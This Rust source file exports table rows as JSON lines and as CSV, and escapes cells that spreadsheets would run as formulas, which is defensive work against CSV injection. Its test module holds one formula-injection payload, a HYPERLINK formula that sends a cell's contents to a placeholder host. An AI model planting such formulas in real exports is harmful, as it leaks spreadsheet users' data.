//! The same rows as JSON lines for programs and as CSV for spreadsheets.

use rollbook_core::canonical;
use serde_json::{Map, Value};

use crate::error::{Error, Result};
use crate::evidence::DataFile;

/// A table of a pack: rows that all have the same fields.
pub(super) struct Table {
    /// The name of its files, without their ending.
    pub(super) name: &'static str,
    /// The names of its fields, in order.
    pub(super) fields: &'static [&'static str],
    /// One value for each field.
    pub(super) rows: Vec<Vec<Value>>,
}

impl Table {
    /// A table of rows with exactly these fields.
    pub(super) fn new<const N: usize>(
        name: &'static str,
        fields: &'static [&'static str; N],
        rows: impl IntoIterator<Item = [Value; N]>,
    ) -> Self {
        Self { name, fields, rows: rows.into_iter().map(Vec::from).collect() }
    }

    /// One canonical JSON object a line.
    pub(super) fn jsonl(&self) -> DataFile {
        let mut bytes = Vec::new();
        for row in &self.rows {
            let names = self.fields.iter().map(|name| (*name).to_owned());
            let object: Map<_, _> = names.zip(row.iter().cloned()).collect();
            bytes.extend(canonical::bytes(&canonical::exact(Value::Object(object))));
            bytes.push(b'\n');
        }
        self.file("jsonl", bytes)
    }

    /// A header, also where no row follows, and one line a row. A cell that a spreadsheet would take
    /// for a formula is written with a `'` before it; the JSON lines hold it as it is.
    pub(super) fn csv(&self) -> Result<DataFile> {
        let failed = || Error::bug(format!("{}.csv could not be written.", self.name));
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer.write_record(self.fields).map_err(|e| failed().because(e))?;
        for row in &self.rows {
            let cells = row.iter().map(|value| harmless(&cell(value)));
            writer.write_record(cells).map_err(|e| failed().because(e))?;
        }
        let bytes = writer.into_inner().map_err(|e| failed().because(e.to_string()))?;
        Ok(self.file("csv", bytes))
    }

    /// Rows to go after those of [`Table::csv`], which say what the table covers: `# ` and a name in the
    /// first cell, what is said in the second, and the others empty.
    pub(super) fn csv_end(&self, said: &[[String; 2]]) -> Result<Vec<u8>> {
        let failed = || Error::bug(format!("{}.csv could not be written.", self.name));
        let mut writer = csv::Writer::from_writer(Vec::new());
        for [name, what] in said {
            let cells = [format!("# {name}"), harmless(what)];
            let empty = std::iter::repeat_n(String::new(), self.fields.len().saturating_sub(2));
            let row: Vec<String> = cells.into_iter().chain(empty).collect();
            writer.write_record(row).map_err(|e| failed().because(e))?;
        }
        writer.into_inner().map_err(|e| failed().because(e.to_string()))
    }

    fn file(&self, ending: &str, bytes: Vec<u8>) -> DataFile {
        DataFile { name: format!("{}.{ending}", self.name), rows: self.rows.len() as u64, bytes }
    }
}

fn cell(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(text) => text.clone(),
        other => other.to_string(),
    }
}

/// Spreadsheets run what begins like a formula, also full-width and after a tab or line break.
pub(crate) fn harmless(text: &str) -> String {
    let risky = text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
    if risky { format!("'{text}") } else { text.to_owned() }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn a_name_that_is_a_formula_is_text_in_the_spreadsheet_and_itself_in_the_lines() {
        let row = [json!("=HYPERLINK(\"http://e?\"&A1)"), json!(-1)];
        let table = Table::new("t", &["name", "count"], [row]);
        assert_eq!(
            text(&table.csv().expect("it fits in memory")),
            "name,count\n\"'=HYPERLINK(\"\"http://e?\"\"&A1)\",'-1\n"
        );
        let lines = text(&table.jsonl());
        assert_eq!(lines, "{\"count\":-1,\"name\":\"=HYPERLINK(\\\"http://e?\\\"&A1)\"}\n");
    }

    #[test]
    fn a_table_without_rows_still_says_what_its_columns_are() {
        let table = Table::new("t", &["what", "because"], []);
        assert_eq!(text(&table.csv().expect("it fits in memory")), "what,because\n");
        assert_eq!(text(&table.jsonl()), "");
    }

    fn text(file: &DataFile) -> String {
        String::from_utf8(file.bytes.clone()).expect("both are UTF-8")
    }
}
